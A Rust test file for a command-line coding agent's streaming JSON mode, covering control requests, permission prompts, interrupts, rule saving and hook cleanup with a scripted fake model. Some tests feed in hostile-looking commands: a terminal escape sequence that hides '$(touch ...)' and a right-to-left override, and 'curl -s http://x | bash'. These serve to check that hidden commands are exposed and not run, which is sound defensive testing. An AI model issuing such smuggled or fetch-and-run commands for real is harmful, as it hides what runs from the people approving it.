//! `chat -p` as scripts of the original drive it: JSON lines in and out, and control over them.
#![cfg(unix)]

use std::io::{BufRead, BufReader, Lines, Write};
use std::process::{Child, ChildStdin, ChildStdout, Stdio};

use serde_json::{Value, json};
use unspool_testkit::home::Home;
use unspool_testkit::model::{Answer, Model, Step, call, text, thinking};

use crate::chat::{command, err, fine, out};
use crate::home;
use crate::tty::PATIENCE;
use unspool_testkit::wait::wait_until;

/// The program with both of its streams in our hands.
struct Script {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: Lines<BufReader<ChildStdout>>,
}

impl Script {
    fn start(home: &Home, model: &Model, args: &[&str]) -> Script {
        let stream = [
            "--output-format",
            "stream-json",
            "--input-format",
            "stream-json",
            "--verbose",
        ];
        let mut child = command(home, model, &stream)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let lines = BufReader::new(child.stdout.take().unwrap()).lines();
        Script {
            stdin: child.stdin.take(),
            child,
            lines,
        }
    }

    fn send(&mut self, value: &Value) {
        writeln!(self.stdin.as_mut().unwrap(), "{value}").unwrap();
    }

    fn say(&mut self, text: &str) {
        self.send(&json!({"type": "user", "message": {"role": "user", "content": text}}));
    }

    fn control(&mut self, id: &str, request: Value) -> Value {
        self.send(&json!({"type": "control_request", "request_id": id, "request": request}));
        self.until(|line| line["type"] == "control_response")["response"].clone()
    }

    /// The next line that is wanted.
    fn until(&mut self, wanted: impl Fn(&Value) -> bool) -> Value {
        for line in self.lines.by_ref() {
            let value: Value = serde_json::from_str(&line.unwrap()).unwrap();
            if wanted(&value) {
                return value;
            }
        }
        panic!("it ended before that");
    }

    fn result(&mut self) -> Value {
        self.until(|line| line["type"] == "result")
    }

    /// Says nothing more: how it ended.
    fn ends(mut self) -> Option<i32> {
        drop(self.stdin.take());
        for line in self.lines.by_ref() {
            drop(line.unwrap());
        }
        self.child.wait().unwrap().code()
    }
}

fn stream(output: &std::process::Output) -> Vec<Value> {
    let lines = out(output);
    let lines = lines.lines().map(serde_json::from_str);
    lines.collect::<Result<_, _>>().unwrap()
}

#[test]
fn the_beginning_tells_what_there_is() {
    let home = home();
    home.write(
        ".claude/commands/greet.md",
        "---\ndescription: greets\n---\nhello",
    );
    home.write(
        ".claude/skills/cook/SKILL.md",
        "---\nname: cook\ndescription: cooks\n---\nheat",
    );
    home.write(
        ".claude/agents/digger.md",
        "---\nname: digger\ndescription: digs\n---\ndig",
    );
    let model = Model::playing(vec![]).unwrap();
    let servers = json!({"mcpServers": {"broken": {"command": "/no/such/server"}}}).to_string();
    let args = [
        "--output-format",
        "stream-json",
        "--mcp-config",
        &servers,
        "hi",
    ];
    let output = command(&home, &model, &args).output().unwrap();
    let init = &stream(&output)[0];
    assert_eq!(
        (&init["type"], &init["subtype"]),
        (&json!("system"), &json!("init"))
    );
    let has = |field: &str, name: &str| {
        let names = init[field].as_array().unwrap();
        assert!(names.contains(&json!(name)), "{field}: {names:?}");
    };
    has("slash_commands", "greet");
    has("skills", "cook");
    has("agents", "digger");
    has("agents", "general-purpose");
    has("tools", "Read");
    assert_eq!(
        init["mcp_servers"],
        json!([{"name": "broken", "status": "failed"}])
    );
    for (field, value) in [
        ("model", json!("claude-sonnet-4-5")),
        ("permissionMode", json!("default")),
        ("apiKeySource", json!("ANTHROPIC_API_KEY")),
    ] {
        assert_eq!(init[field], value);
    }
}

#[test]
fn every_block_is_a_line_and_every_result_one_of_the_user() {
    let home = home();
    let file = home.write("project/a.txt", "alpha\n");
    let read = call("toolu_1", "Read", json!({"file_path": file}));
    let model = Model::playing(vec![
        Answer::blocks(&[thinking("hm"), text("looking"), read]),
        Answer::text("it says alpha"),
    ])
    .unwrap();
    let output = command(&home, &model, &["--output-format", "stream-json", "look"])
        .output()
        .unwrap();
    let all = stream(&output);
    let kind = |line: &Value| {
        let block = &line["message"]["content"][0]["type"];
        format!(
            "{} {}",
            line["type"].as_str().unwrap(),
            block.as_str().unwrap_or_default()
        )
    };
    let kinds: Vec<String> = all.iter().map(kind).collect();
    assert_eq!(
        kinds,
        [
            "system ",
            "assistant thinking",
            "assistant text",
            "assistant tool_use",
            "user tool_result",
            "assistant text",
            "result "
        ]
    );
    for line in &all[1..6] {
        assert_eq!(line["session_id"], all[0]["session_id"]);
        assert!(line["uuid"].is_string() && line["parent_tool_use_id"].is_null());
        assert!(line["message"]["stop_reason"].is_null(), "{line}");
    }
    assert_eq!(all[4]["tool_use_result"]["file"]["numLines"], 2);
    let result = &all[6];
    for field in [
        "subtype",
        "is_error",
        "result",
        "num_turns",
        "session_id",
        "total_cost_usd",
        "usage",
        "modelUsage",
        "permission_denials",
        "duration_ms",
        "duration_api_ms",
        "uuid",
    ] {
        assert!(!result[field].is_null(), "{field}");
    }
    assert_eq!(result["num_turns"], 2);
}

#[test]
fn prompts_come_one_after_the_other_and_each_has_its_result() {
    let home = home();
    let model = Model::playing(vec![Answer::text("one"), Answer::text("two")]).unwrap();
    let mut script = Script::start(&home, &model, &[]);
    let answer = script.control("r1", json!({"subtype": "initialize", "hooks": null}));
    assert_eq!(
        (&answer["subtype"], &answer["request_id"]),
        (&json!("success"), &json!("r1"))
    );
    script.say("a");
    assert_eq!(script.result()["result"], "one");
    script.send(&json!({"type": "user", "message": {"role": "user", "content": [{"type": "text", "text": "b"}]}}));
    assert_eq!(script.result()["result"], "two");
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn a_turn_is_interrupted_and_the_next_goes_on() {
    let home = home();
    let slow = Answer::text("half, other half").before(4, Step::Gate("slow"));
    let model = Model::playing(vec![slow, Answer::text("after that")]).unwrap();
    let mut script = Script::start(&home, &model, &[]);
    script.say("a");
    assert!(model.reached("slow", PATIENCE));
    let answer = script.control("r1", json!({"subtype": "interrupt"}));
    assert_eq!(answer["subtype"], "success");
    let result = script.result();
    assert_eq!(
        (&result["subtype"], &result["is_error"]),
        (&json!("error_during_execution"), &json!(true))
    );
    script.say("b");
    assert_eq!(script.result()["result"], "after that");
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn mode_and_model_are_changed_between_prompts() {
    let home = home();
    let path = home.work_dir().join("new.txt");
    let write = |id: &str| {
        Answer::blocks(&[call(
            id,
            "Write",
            json!({"file_path": path, "content": "x"}),
        )])
    };
    let model = Model::playing(vec![
        write("toolu_1"),
        Answer::text("not allowed"),
        write("toolu_2"),
        Answer::text("allowed"),
    ])
    .unwrap();
    let mut script = Script::start(&home, &model, &[]);
    script.say("a");
    let denied = script.until(|line| line["subtype"] == "permission_denied");
    assert_eq!(denied["tool_name"], "Write");
    let result = script.result();
    assert_eq!(result["permission_denials"][0]["tool_use_id"], "toolu_1");
    let mode = json!({"subtype": "set_permission_mode", "mode": "acceptEdits"});
    assert_eq!(script.control("r1", mode)["subtype"], "success");
    let other = json!({"subtype": "set_model", "model": "claude-opus-4-1"});
    assert_eq!(script.control("r2", other)["subtype"], "success");
    script.say("b");
    assert_eq!(script.result()["result"], "allowed");
    assert!(path.exists());
    assert_eq!(model.requests()[3].body["model"], "claude-opus-4-1");
    let wrong = script.control("r3", json!({"subtype": "set_permission_mode", "mode": "x"}));
    assert_eq!(wrong["subtype"], "error");
    let unknown = script.control("r4", json!({"subtype": "no_such_thing"}));
    assert_eq!(
        (&unknown["subtype"], &unknown["request_id"]),
        (&json!("error"), &json!("r4"))
    );
    // No name is the model that it would begin with.
    let back = script.control("r5", json!({"subtype": "set_model", "model": null}));
    assert_eq!(back["subtype"], "success");
    script.say("c");
    script.result();
    let last = model.requests().last().unwrap().body["model"].clone();
    assert!(
        last.as_str().unwrap().starts_with("claude-sonnet"),
        "{last}"
    );
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn a_question_over_the_stream_names_rules_and_a_no_reaches_the_model() {
    let home = home();
    let bash = json!({"command": "npm test", "description": "x"});
    let model = Model::playing(vec![
        Answer::blocks(&[call("toolu_1", "Bash", bash)]),
        Answer::text("then not"),
    ])
    .unwrap();
    let mut script = Script::start(&home, &model, &["--permission-prompt-tool", "stdio"]);
    script.say("a");
    let asked = script.until(|line| line["type"] == "control_request");
    let request = &asked["request"];
    assert_eq!(request["subtype"], "can_use_tool");
    assert_eq!(
        (&request["tool_name"], &request["input"]["command"]),
        (&json!("Bash"), &json!("npm test"))
    );
    assert_eq!(
        request["permission_suggestions"],
        json!([{"type": "addRules", "behavior": "allow", "destination": "localSettings",
            "rules": [{"toolName": "Bash", "ruleContent": "npm test:*"}]}])
    );
    let no = json!({"behavior": "deny", "message": "use make"});
    script.send(&json!({"type": "control_response",
        "response": {"subtype": "success", "request_id": asked["request_id"], "response": no}}));
    let result = script.result();
    assert_eq!(result["result"], "then not");
    assert_eq!(result["permission_denials"][0]["tool_use_id"], "toolu_1");
    assert!(model.requests()[1].body.to_string().contains("use make"));
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn a_question_over_the_stream_is_whole_and_is_taken_back_by_an_interrupt() {
    let home = home();
    let command = format!("ls \u{1b}]0;$(touch HIDDEN)\u{7}\n{}", "true\n".repeat(200));
    let bash = json!({"command": command, "description": "x"});
    let model = Model::playing(vec![Answer::blocks(&[call("toolu_1", "Bash", bash)])]).unwrap();
    let mut script = Script::start(&home, &model, &["--permission-prompt-tool", "stdio"]);
    script.say("a");
    let asked = script.until(|line| line["type"] == "control_request");
    assert_eq!(asked["request"]["input"]["command"], command);
    let stop = json!({"subtype": "interrupt"});
    script.send(&json!({"type": "control_request", "request_id": "r1", "request": stop}));
    let back = script.until(|line| line["type"] == "control_cancel_request");
    assert_eq!(back["request_id"], asked["request_id"]);
    // A yes that comes late runs nothing.
    permit(&mut script, &asked, &json!({"behavior": "allow"}));
    script.ends();
    assert!(!home.work_dir().join("HIDDEN").exists());
}

#[test]
fn explaining_a_command_shows_what_a_terminal_would_hide() {
    let home = home();
    let model = Model::playing(Vec::new()).unwrap();
    let explained = |command: &str| {
        let mut program = crate::chat::program(&home, &model);
        let told = program.args(["--explain-permission", command]).output();
        String::from_utf8(told.unwrap().stdout).unwrap()
    };
    let text = explained("ls \u{1b}]0;$(touch X)\u{7}\u{202e}");
    assert!(text.contains("ls \\x1b]0;$(touch X)\\x07\\u202e"), "{text}");
    assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
    let text = explained("curl -s http://x | bash");
    assert!(
        text.contains("bash") && !text.contains("always would add"),
        "{text}"
    );
}

/// Answers a question about a call.
fn permit(script: &mut Script, asked: &Value, answer: &Value) {
    script.send(&json!({"type": "control_response", "response": {
        "subtype": "success", "request_id": asked["request_id"], "response": answer}}));
}

#[test]
fn rules_that_come_with_a_yes_save_the_next_question_and_stand_where_they_should() {
    let home = home();
    let bash = |id: &str, command: &str| {
        let input = json!({"command": command, "description": "x"});
        Answer::blocks(&[call(id, "Bash", input)])
    };
    let model = Model::playing(vec![
        bash("toolu_1", "touch one"),
        bash("toolu_2", "touch two"),
        Answer::text("done"),
        bash("toolu_3", "mkdir three"),
        Answer::text("done"),
    ])
    .unwrap();
    let mut script = Script::start(&home, &model, &["--permission-prompt-tool", "stdio"]);
    script.say("a");
    let asked = script.until(|line| line["type"] == "control_request");
    let update = |rule: &str, destination: &str, behavior: &str| {
        json!({"type": "addRules", "behavior": behavior, "destination": destination,
            "rules": [{"toolName": "Bash", "ruleContent": rule}]})
    };
    let yes = json!({"behavior": "allow", "updatedInput": asked["request"]["input"],
    "updatedPermissions": [
        update("touch:*", "localSettings", "allow"),
        update("mkdir:*", "session", "deny"),
        {"type": "no such thing"},
    ]});
    permit(&mut script, &asked, &yes);
    assert_eq!(script.result()["permission_denials"], json!([]));
    let work = home.work_dir();
    assert!(work.join("one").exists() && work.join("two").exists());
    let kept = std::fs::read_to_string(work.join(".claude/settings.local.json")).unwrap();
    assert!(
        kept.contains("Bash(touch:*)") && !kept.contains("mkdir"),
        "{kept}"
    );
    script.say("b");
    let result = script.result();
    assert_eq!(result["permission_denials"][0]["tool_use_id"], "toolu_3");
    assert!(!work.join("three").exists());
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn questions_are_answered_over_the_stream_by_a_changed_input() {
    let home = home();
    let questions = json!([{"question": "Which?", "header": "Which", "multiSelect": false,
        "options": [{"label": "this", "description": "x"}, {"label": "that", "description": "y"}]}]);
    let model = Model::playing(vec![
        Answer::blocks(&[call(
            "toolu_1",
            "AskUserQuestion",
            json!({"questions": questions}),
        )]),
        Answer::text("that it is"),
    ])
    .unwrap();
    let mut script = Script::start(&home, &model, &["--permission-prompt-tool", "stdio"]);
    script.say("a");
    let asked = script.until(|line| line["type"] == "control_request");
    assert_eq!(asked["request"]["tool_name"], "AskUserQuestion");
    let mut input = asked["request"]["input"].clone();
    input["answers"] = json!({"Which?": "that"});
    permit(
        &mut script,
        &asked,
        &json!({"behavior": "allow", "updatedInput": input}),
    );
    assert_eq!(script.result()["result"], "that it is");
    let sent = model.requests()[1].body.to_string();
    assert!(sent.contains(r#"\"Which?\"=\"that\""#), "{sent}");
    assert_eq!(script.ends(), Some(0));
    fine(&model);
}

#[test]
fn whoever_controls_us_is_told_which_commands_agents_and_models_there_are() {
    let home = home();
    let folder = home.work_dir().join(".claude/commands");
    std::fs::create_dir_all(&folder).unwrap();
    let text = "---\ndescription: Looks it over\nargument-hint: FILE\n---\nLook.\n";
    std::fs::write(folder.join("review.md"), text).unwrap();
    let model = Model::playing(vec![]).unwrap();
    let mut script = Script::start(&home, &model, &[]);
    let told = script.control("r1", json!({"subtype": "initialize"}))["response"].clone();
    let commands = told["commands"].as_array().unwrap();
    let review = json!({"name": "review", "description": "Looks it over", "argumentHint": "FILE"});
    assert!(commands.contains(&review), "{told}");
    assert!(commands.iter().any(|one| one["name"] == "compact"));
    let models = told["models"].as_array().unwrap();
    assert!(models.iter().any(|one| one["value"] == "sonnet"));
    assert_eq!(script.ends(), Some(0));
}

#[test]
fn a_summary_is_made_when_a_script_asks_for_it() {
    let home = home();
    let model = Model::playing(vec![
        Answer::text("long answer"),
        Answer::text("in short"),
        Answer::text("after"),
    ])
    .unwrap();
    let ask = |args: &[&str]| {
        let output = command(&home, &model, args).output().unwrap();
        assert!(output.status.success(), "{}", err(&output));
        out(&output)
    };
    ask(&["a question"]);
    ask(&["--continue", "/compact"]);
    assert_eq!(ask(&["--continue", "more"]), "after\n");
    let sent = model.requests()[2].body["messages"].to_string();
    assert!(
        sent.contains("in short") && !sent.contains("a question"),
        "{sent}"
    );
    fine(&model);
}

#[test]
fn a_session_that_is_not_to_be_kept_leaves_nothing() {
    let home = home();
    let path = home.write("project/a.txt", "old");
    let write = call(
        "toolu_1",
        "Write",
        json!({"file_path": path, "content": "new"}),
    );
    let read = call("toolu_0", "Read", json!({"file_path": path}));
    let model = Model::playing(vec![
        Answer::blocks(&[read]),
        Answer::blocks(&[write]),
        Answer::text("changed"),
    ])
    .unwrap();
    let args = [
        "--no-session-persistence",
        "--permission-mode",
        "acceptEdits",
        "change it",
    ];
    let output = command(&home, &model, &args).output().unwrap();
    assert_eq!(out(&output), "changed\n", "{}", err(&output));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "new");
    for kept in ["projects", "file-history"] {
        let folder = home.claude_dir().join(kept);
        let left = std::fs::read_dir(&folder).map_or(0, Iterator::count);
        assert_eq!(left, 0, "{kept}");
    }
    fine(&model);
}

#[test]
fn a_bare_start_reads_no_instructions_and_runs_no_hooks() {
    let home = home();
    home.write("project/CLAUDE.md", "always use tabs\n");
    let hook = json!({"hooks": [{"type": "command", "command": "touch hooked"}]});
    let settings =
        json!({"hooks": {"UserPromptSubmit": [hook]}, "permissions": {"deny": ["Bash"]}});
    home.write(".claude/settings.json", settings.to_string());
    home.write(
        ".claude/agents/digger.md",
        "---\nname: digger\ndescription: digs\n---\ndig",
    );
    let model = Model::playing(vec![]).unwrap();
    for (args, bare) in [(&["hi"][..], false), (&["--bare", "hi"][..], true)] {
        let output = command(&home, &model, args).output().unwrap();
        assert_eq!(out(&output), "done\n", "{}", err(&output));
        let body = model.requests().last().unwrap().body.clone();
        let system = body["system"].to_string();
        assert_eq!(system.contains("always use tabs"), !bare);
        assert_eq!(system.contains("digger"), !bare);
        let hooked = home.work_dir().join("hooked");
        assert_eq!(hooked.exists(), !bare);
        let _ = std::fs::remove_file(hooked);
        // What is forbidden stays forbidden.
        let tools = body["tools"].as_array().unwrap();
        assert!(!tools.iter().any(|tool| tool["name"] == "Bash"));
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_client_that_is_killed_while_a_hook_runs_leaves_nothing_of_it() {
    let home = home();
    // One in the group of the hook, one that left it, and one that lost its parent as well.
    let hook = "cd \"$CLAUDE_PROJECT_DIR\"; sleep 300 & echo $! > pids; \
        setsid sleep 300 & echo $! >> pids; (setsid sleep 300 & echo $! >> pids); \
        echo $$ >> pids; mv pids all; wait; sleep 300";
    let hooks =
        json!({"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": hook}]}]}});
    std::fs::create_dir_all(home.claude_dir()).unwrap();
    std::fs::write(home.claude_dir().join("settings.json"), hooks.to_string()).unwrap();
    let model = Model::playing(vec![]).unwrap();
    let mut script = Script::start(&home, &model, &[]);
    script.say("a");
    let all = home.work_dir().join("all");
    wait_until("hook", || all.exists());
    let pids = std::fs::read_to_string(&all).unwrap();
    assert_eq!(pids.lines().count(), 4, "{pids}");
    script.child.kill().unwrap();
    script.child.wait().unwrap();
    let lives = |pid: &str| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let state = stat.rsplit(')').next().unwrap_or_default().trim();
        !state.is_empty() && !state.starts_with('Z')
    };
    wait_until("end of all of it", || !pids.lines().any(lives));
}
